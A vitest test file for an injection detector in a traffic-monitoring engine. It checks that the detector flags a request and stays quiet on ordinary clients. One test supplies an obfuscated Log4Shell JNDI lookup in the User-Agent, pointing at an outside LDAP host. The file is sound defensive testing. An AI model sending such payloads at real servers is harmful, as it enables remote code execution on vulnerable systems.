import { describe, expect, it } from 'vitest';
import { DetectorsConfig } from '../schemas/config/detectors.js';
import type { Finding } from '../schemas/finding.js';
import { generateTraffic } from '../test/helpers/traffic.js';
import { Engine } from './engine.js';
import { detectorRegistry } from './registry.js';
import { signatureScanner } from './signature-scanner.js';

/** The key stage with the built-in pack: the injection detector's own findings. */
function injectionFindings(traffic: Parameters<typeof generateTraffic>[0]): Finding[] {
  const config = DetectorsConfig.parse({});
  const engine = new Engine('key', detectorRegistry(signatureScanner(config.injection)), config);
  return generateTraffic(traffic)
    .flatMap((e) => {
      const observed = engine.observe(e);
      return observed.late ? [] : observed.findings;
    })
    .filter((f) => f.detector === 'injection');
}

describe('injection detector: what it scans of a request', () => {
  it('finds a Log4Shell lookup in the User-Agent of keyless GETs, naming the field', () => {
    const findings = injectionFindings([
      {
        count: 3,
        every: '5s',
        key: null,
        ip: '203.0.113.120',
        method: 'GET',
        status: 404,
        path: '/',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4j lookup, not a template literal
        userAgent: '${${lower:j}ndi:${lower:l}dap://198.51.100.7:1389/a}',
      },
    ]);
    expect(findings.length).toBeGreaterThan(0);
    expect(findings.every((f) => f.subject.kind === 'ip' && f.subject.id === '203.0.113.120')).toBe(true);
    expect(findings[0]!.evidence.details).toMatchObject({
      fields: 'user-agent',
      categories: 'code-injection',
    });
  });

  it('stays quiet on ordinary clients and their user agents', () => {
    const findings = injectionFindings([
      {
        count: 20,
        every: '3s',
        key: 'alice',
        userAgent:
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
        prompt: 'Summarise this support ticket in two sentences.',
      },
      {
        count: 20,
        every: '3s',
        key: 'bob',
        userAgent: 'OpenAI/Python 1.57.0',
        prompt: 'Translate "thank you" into Italian.',
      },
    ]);
    expect(findings).toEqual([]);
  });
});
